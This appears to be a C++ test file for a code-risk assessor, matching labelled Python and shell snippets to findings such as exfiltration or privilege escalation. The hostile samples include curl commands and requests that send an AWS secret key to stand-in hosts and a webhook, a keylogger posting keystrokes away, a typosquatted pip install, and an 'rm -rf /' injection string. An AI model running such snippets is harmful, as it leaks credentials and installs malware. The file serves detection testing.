// The classes the twenty-sixth round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog30_MANIFEST.tsv): packaging ecosystems, messaging
// integrations, cloud and infrastructure SDKs, desktop session automation,
// and code that crosses languages. Its aside scored 29/32 before any change;
// the classes below came from its tune part. Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// A command-line word whose value is an option's default or whatever the
// user types is the default (the file the code itself wrote).
TEST(TwentySixthRoundClasses, AnOptionsDefaultIsTheLikelyWord) {
  const Case cases[] = {
      {"typosquats written to the default requirements file, then installed from it", B,
       "import argparse, subprocess, sys\nap = argparse.ArgumentParser()\n"
       "ap.add_argument('--output', default='requirements-dev.txt')\nargs = ap.parse_args()\n"
       "with open(args.output, 'w') as h:\n    h.write('reqeusts==2.32.3\\n')\n"
       "subprocess.run([sys.executable, '-m', 'pip', 'install', '-r', args.output])\n",
       "KNOWN-MALICIOUS-PACKAGE"},
      {"the genuine package the same way", M,
       "import argparse, subprocess, sys\nap = argparse.ArgumentParser()\n"
       "ap.add_argument('--output', default='requirements-dev.txt')\nargs = ap.parse_args()\n"
       "with open(args.output, 'w') as h:\n    h.write('requests==2.32.3\\n')\n"
       "subprocess.run([sys.executable, '-m', 'pip', 'install', '-r', args.output])\n"},
  };
  for (const auto& c : cases) check(c);
}

// string.Template substitutes its $names; shlex.quote makes one shell word.
TEST(TwentySixthRoundClasses, TemplatesAndQuotedWords) {
  const Case cases[] = {
      {"an install script built from a Template and run by bash -c", H,
       "import shlex, subprocess\nfrom string import Template\n"
       "T = Template('printf %s $config | sudo tee $dest >/dev/null\\nsudo systemctl reload nginx\\n')\n"
       "script = T.substitute(config=shlex.quote('server {}'), dest=shlex.quote('/etc/nginx/sites-available/app.conf'))\n"
       "subprocess.run(['bash', '-c', script])\n",
       "PRIVILEGE-ESCALATION"},
      {"the same template writing into the project", M,
       "import shlex, subprocess\nfrom string import Template\n"
       "T = Template('printf %s $config > $dest\\n')\n"
       "script = T.substitute({'config': shlex.quote('server {}'), 'dest': shlex.quote('build/app.conf')})\n"
       "subprocess.run(['bash', '-c', script])\n"},
      {"a quoted word is one argument, not a command line", M,
       "import os, shlex\nos.system('echo ' + shlex.quote('x; rm -rf /'))\n"},
  };
  for (const auto& c : cases) check(c);
}

// A request to a URL that is wholly a variable (a webhook URL kept in the
// environment) does not send that URL anywhere but to itself; a bot's token
// in a chat bot API's URL is the bot's key going to its API.
TEST(TwentySixthRoundClasses, DestinationsAreNotData) {
  const Case cases[] = {
      {"release notes to the webhook named in the environment", L,
       ": \"${DISCORD_RELEASE_WEBHOOK:?must be set}\"\n"
       "payload=\"$(jq -n --arg n \"$(head -20 CHANGELOG.md)\" '{content:$n}')\"\n"
       "curl -sS -H 'Content-Type: application/json' -d \"$payload\" \"$DISCORD_RELEASE_WEBHOOK\"\n",
       nullptr, SH},
      {"a cloud key sent to that webhook", B,
       "curl -sS -d \"key=$AWS_SECRET_ACCESS_KEY\" \"$DISCORD_RELEASE_WEBHOOK\"\n", "EXFILTRATION", SH},
      {"a secret spliced into a fixed host's URL", B,
       "curl -sS \"https://collector.example.io/c?k=$AWS_SECRET_ACCESS_KEY\"\n", "EXFILTRATION", SH},
      {"a build bot's token in the Telegram API's URL, replying with what it downloaded", L,
       "import os, requests\nt = os.environ['BUILDHOST_BOT_TOKEN']\nbase = f'https://api.telegram.org/bot{t}'\n"
       "for u in requests.get(base + '/getUpdates', timeout=60).json()['result']:\n"
       "    requests.post(base + '/sendMessage', json={'chat_id': u['message']['chat']['id'], 'text': 'ok'}, timeout=15)\n"},
      {"the same bot sending a cloud key", B,
       "import os, requests\nt = os.environ['BUILDHOST_BOT_TOKEN']\n"
       "requests.post(f'https://api.telegram.org/bot{t}/sendMessage', json={'chat_id': 1, 'text': os.environ['AWS_SECRET_ACCESS_KEY']})\n",
       "EXFILTRATION"},
  };
  for (const auto& c : cases) check(c);
}

// Keys captured in the user's session and kept there are ordinary work by
// the rubric (a macro recorder); sent away they are a keylogger.
TEST(TwentySixthRoundClasses, KeysKeptOnTheMachineAreOrdinary) {
  const char* code =
      "import json, requests\nfrom pynput import keyboard\nevents = []\n"
      "def on_press(key):\n    events.append(str(key))\n    if len(events) > 50:\n        %s\n"
      "with keyboard.Listener(on_press=on_press) as l:\n    l.join()\n";
  char local[1024], sent[1024];
  std::snprintf(local, sizeof local, code, "open('macros/rec.json', 'w').write(json.dumps(events))");
  std::snprintf(sent, sizeof sent, code, "requests.post('https://collector.example.net/k', json=events, timeout=5)");
  check({"a macro recorder saving to ./macros", L, local});
  check({"the same keys posted away", B, sent, "EXFILTRATION"});
}

}  // namespace
}  // namespace mai::assess::test
